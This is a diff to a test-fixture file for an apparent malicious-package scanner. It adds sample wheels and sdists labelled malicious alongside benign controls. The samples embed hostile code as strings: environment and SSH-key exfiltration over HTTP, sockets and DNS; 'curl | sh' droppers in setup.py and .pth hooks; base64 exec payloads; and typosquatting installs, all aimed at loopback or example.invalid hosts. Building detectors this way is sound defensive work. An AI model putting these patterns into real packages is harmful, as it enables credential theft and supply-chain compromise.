@@ -25,6 +25,7 @@ def wheel(
     summary: str = "A test package",
     record: bool = True,
     tamper: str = "",
+    requires: str = "",
 ) -> bytes:
     """A wheel with METADATA, WHEEL and a correct RECORD (unless told otherwise)."""
     info = f"{name}-{version}.dist-info"
@@ -32,6 +33,7 @@ def wheel(
     contents[f"{info}/METADATA"] = (
         f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n"
         + (f"Summary: {summary}\n" if summary else "")
+        + requires
     ).encode()
     contents[f"{info}/WHEEL"] = (
         b"Wheel-Version: 1.0\nGenerator: airlock-tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
@@ -51,11 +53,12 @@ def wheel(
     return buffer.getvalue()
 
 
-def sdist(name: str, version: str, files: dict[str, str]) -> bytes:
+def sdist(name: str, version: str, files: dict[str, str], *, extra_metadata: str = "") -> bytes:
     buffer = io.BytesIO()
     with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
         root = f"{name}-{version}"
         pkg_info = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\nSummary: test\n"
+        pkg_info += extra_metadata
         for path, text in {"PKG-INFO": pkg_info, **files}.items():
             data = text.encode()
             member = tarfile.TarInfo(f"{root}/{path}")
@@ -402,6 +405,211 @@ MALICIOUS: dict[str, tuple[str, bytes]] = {
             },
         ),
     ),
+    # Issue 16, chains across files: import or install time reaches a sink through a
+    # function of another module of the same package.
+    "exfiltration:environment-across-files": (
+        "telemetry-0.1-py3-none-any.whl",
+        wheel(
+            "telemetry",
+            "0.1",
+            {
+                "telemetry/__init__.py": "from .report import send\n\nsend()\n",
+                "telemetry/report.py": "import json, os, urllib.request\n\n\ndef send():\n    body = json.dumps(dict(os.environ)).encode()\n    urllib.request.urlopen('http://127.0.0.1:9/c', body)\n",
+            },
+        ),
+    ),
+    "dropper:setup-calls-package-module": (
+        "buildhelp-0.1.tar.gz",
+        sdist(
+            "buildhelp",
+            "0.1",
+            {
+                "setup.py": "from setuptools import setup\nfrom buildhelp.steps import prepare\n\nprepare()\nsetup(name='buildhelp', version='0.1')\n",
+                "buildhelp/__init__.py": "",
+                "buildhelp/steps.py": "import subprocess\n\n\ndef prepare():\n    subprocess.call('curl -s http://127.0.0.1:9/x -o /tmp/x', shell=True)\n",
+            },
+        ),
+    ),
+    "dropper:relative-module-on-import": (
+        "relimp-0.1-py3-none-any.whl",
+        wheel(
+            "relimp",
+            "0.1",
+            {
+                "relimp/__init__.py": "from . import _boot\n\n_boot.start('http://127.0.0.1:9/p')\n",
+                "relimp/_boot.py": "import subprocess\n\n\ndef start(url):\n    subprocess.Popen(['python', '-c', 'print(1)', url])\n",
+            },
+        ),
+    ),
+    "dropper:star-imported-call-on-import": (
+        "starx-0.1-py3-none-any.whl",
+        wheel(
+            "starx",
+            "0.1",
+            {
+                "starx/__init__.py": "from .impl import *\n\nstart()\n",
+                "starx/impl.py": "import subprocess\n\n\ndef start():\n    subprocess.Popen(['python', '-c', 'print(1)'])\n",
+            },
+        ),
+    ),
+    # A .pth that calls its own package's function: the function runs at every start-up.
+    "dropper:pth-calls-own-module": (
+        "pthrun-0.1-py3-none-any.whl",
+        wheel(
+            "pthrun",
+            "0.1",
+            {
+                "pthrun.pth": "import pthrun; pthrun.run()\n",
+                "pthrun/__init__.py": "import subprocess\n\n\ndef run():\n    subprocess.Popen(['python', '-c', 'print(1)'])\n",
+            },
+        ),
+    ),
+    # Sinks named only by an alias or by a string built on the spot (prefilter words absent).
+    "dropper:aliased-sink-in-function": (
+        "aliased-0.1-py3-none-any.whl",
+        wheel(
+            "aliased",
+            "0.1",
+            {
+                "aliased/__init__.py": "from os import system as s1\n\n\ndef update():\n    s1('curl -s http://127.0.0.1:9/u | sh')\n",
+            },
+        ),
+    ),
+    "hidden-process:built-attribute-name": (
+        "builtname-0.1-py3-none-any.whl",
+        wheel(
+            "builtname",
+            "0.1",
+            {"builtname/__init__.py": "import os as o\n\ngetattr(o, 'sys' + 'tem')('id')\n"},
+        ),
+    ),
+    # A top-level import of a stdlib look-alike the package neither ships nor declares.
+    "stdlib-lookalike-import": (
+        "sockreq-0.1-py3-none-any.whl",
+        wheel(
+            "sockreq",
+            "0.1",
+            {"sockreq/__init__.py": "import sockets\n\n\ndef get(url):\n    return url\n"},
+        ),
+    ),
+    # A project shipping another project's import package, named by its own homepage.
+    "impostor-package": (
+        "acme-upgrade-1.0.tar.gz",
+        sdist(
+            "acme-upgrade",
+            "1.0",
+            {"acme_widgets/__init__.py": "def widget():\n    return 1\n"},
+            extra_metadata="Project-URL: Homepage, https://github.com/example/acme-widgets\n",
+        ),
+    ),
+    # A raw socket carries a private key away; setup.py installs packages itself; declared
+    # dependencies that are fetched from a URL or imitate a popular project.
+    "exfiltration:raw-socket": (
+        "rawsock-0.1-py3-none-any.whl",
+        wheel(
+            "rawsock",
+            "0.1",
+            {
+                "rawsock/__init__.py": "import socket\n\n\ndef beam():\n    key = open('/home/u/.ssh/id_rsa').read()\n    s = socket.socket()\n    s.connect(('127.0.0.1', 9))\n    s.sendall(key.encode())\n",
+            },
+        ),
+    ),
+    "install-time-pip": (
+        "pipper-0.1.tar.gz",
+        sdist(
+            "pipper",
+            "0.1",
+            {
+                "setup.py": "import subprocess, sys\nfrom setuptools import setup\n\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'helperlib'])\nsetup(name='pipper', version='0.1')\n",
+                "pipper/__init__.py": "def hello():\n    return 1\n",
+            },
+        ),
+    ),
+    "url-dependency": (
+        "urldep-0.1-py3-none-any.whl",
+        wheel(
+            "urldep",
+            "0.1",
+            {"urldep/__init__.py": "def hello():\n    return 1\n"},
+            requires="Requires-Dist: helper @ https://example.invalid/helper-1.0.tar.gz\n",
+        ),
+    ),
+    "off-screen-code:mixed-blanks": (
+        "offmix-0.1-py3-none-any.whl",
+        wheel(
+            "offmix",
+            "0.1",
+            {"offmix/__init__.py": "x = 1" + "  \t   \t\t  " * 20 + "import os;os.getcwd()\n"},
+        ),
+    ),
+    # A look-alike whose setup.py installs the project it imitates, so the victim sees it work.
+    "squatting-install": (
+        "widgetz-0.1.tar.gz",
+        sdist(
+            "widgetz",
+            "0.1",
+            {
+                "setup.py": "from setuptools import setup\nfrom pip._internal import main\n\nmain(['install', 'widgets'])\nsetup(name='widgetz', version='0.1')\n",
+                "widgetz/__init__.py": "def hello():\n    return 1\n",
+            },
+        ),
+    ),
+    # No code of its own, and setup.py calls out when installed: a placeholder that acts.
+    "pretender-acts": (
+        "placeholder-0.1.tar.gz",
+        sdist(
+            "placeholder",
+            "0.1",
+            {
+                "setup.py": "import urllib.request\nfrom setuptools import setup\n\nurllib.request.urlopen('http://example.invalid/installed')\nsetup(name='placeholder', version='0.1')\n",
+            },
+        ),
+    ),
+    # A payload in a .pyw file (Python run without a console), and a URL dependency
+    # declared only in setup.py's install_requires.
+    "obfuscated-exec:pyw-member": (
+        "quietw-0.1-py3-none-any.whl",
+        wheel(
+            "quietw",
+            "0.1",
+            {
+                "quietw/__init__.py": "",
+                "quietw/agent.pyw": f"import base64\nexec(base64.b64decode('{PAYLOAD}'))\n",
+            },
+        ),
+    ),
+    "url-dependency:install-requires": (
+        "depsq-0.1.tar.gz",
+        sdist(
+            "depsq",
+            "0.1",
+            {
+                "setup.py": "from setuptools import setup\nsetup(name='depsq', version='0.1', install_requires=['numpy', 'helper @ https://example.invalid/helper-1.0.tar.gz'])\n",
+                "depsq/__init__.py": "def hello():\n    return 1\n",
+            },
+        ),
+    ),
+    # Host data sent from a thread started on import, and a DNS look-up carrying it.
+    "exfiltration:thread-on-import": (
+        "threadx-0.1-py3-none-any.whl",
+        wheel(
+            "threadx",
+            "0.1",
+            {
+                "threadx/__init__.py": "import platform, threading, urllib.request\n\n\ndef beacon():\n    urllib.request.urlopen('http://example.invalid/b?h=' + platform.node())\n\n\nthreading.Thread(target=beacon, daemon=True).start()\n",
+            },
+        ),
+    ),
+    "exfiltration:dns-resolver": (
+        "dnsx-0.1-py3-none-any.whl",
+        wheel(
+            "dnsx",
+            "0.1",
+            {
+                "dnsx/__init__.py": "import getpass\nimport dns.resolver\n\ndns.resolver.resolve(getpass.getuser() + '.leak.example.invalid', 'A')\n",
+            },
+        ),
+    ),
 }
 BENIGN: dict[str, bytes] = {
     "tidy-1.0-py3-none-any.whl": wheel(
@@ -459,6 +667,32 @@ BENIGN: dict[str, bytes] = {
             "shim/__init__.py": "import os\n\n\ndef config():\n"
             "    return open(os.path.expanduser('~/.aws/config')).read()\n",
         },
+    ),
+    # Calls across files that reach no chain, a declared backport one letter from the
+    # standard library, and a project named after its import package (python- prefix).
+    "layered-1.0-py3-none-any.whl": wheel(
+        "layered",
+        "1.0",
+        {
+            "layered/__init__.py": "import ujson\nfrom ._version import get_version\nfrom .net import fetch\n\n__version__ = get_version()\n",
+            "layered/_version.py": "def get_version():\n    return '1.0'\n",
+            "layered/net.py": "import socket, urllib.request\n\n\ndef fetch(url):\n    return urllib.request.urlopen(url).read()\n\n\n"
+            "def ping(host):\n    s = socket.socket()\n    s.connect((host, 80))\n    s.close()\n",
+        },
+        requires="Requires-Dist: ujson\nRequires-Dist: requests>=2\n",
+    ),
+    "python-gadget-1.0.tar.gz": sdist(
+        "python-gadget",
+        "1.0",
+        {"gadget/__init__.py": "def gadget():\n    return 1\n"},
+        extra_metadata="Project-URL: Source, https://github.com/example/gadget\n",
+    ),
+    # A project named after its repository with a suffix (grpcio from the grpc repository).
+    "widgetio-1.0.tar.gz": sdist(
+        "widgetio",
+        "1.0",
+        {"widget/__init__.py": "def widget():\n    return 1\n"},
+        extra_metadata="Project-URL: Source Code, https://github.com/example/widget\n",
     ),
     "plain-2.1.tar.gz": sdist(
         "plain",
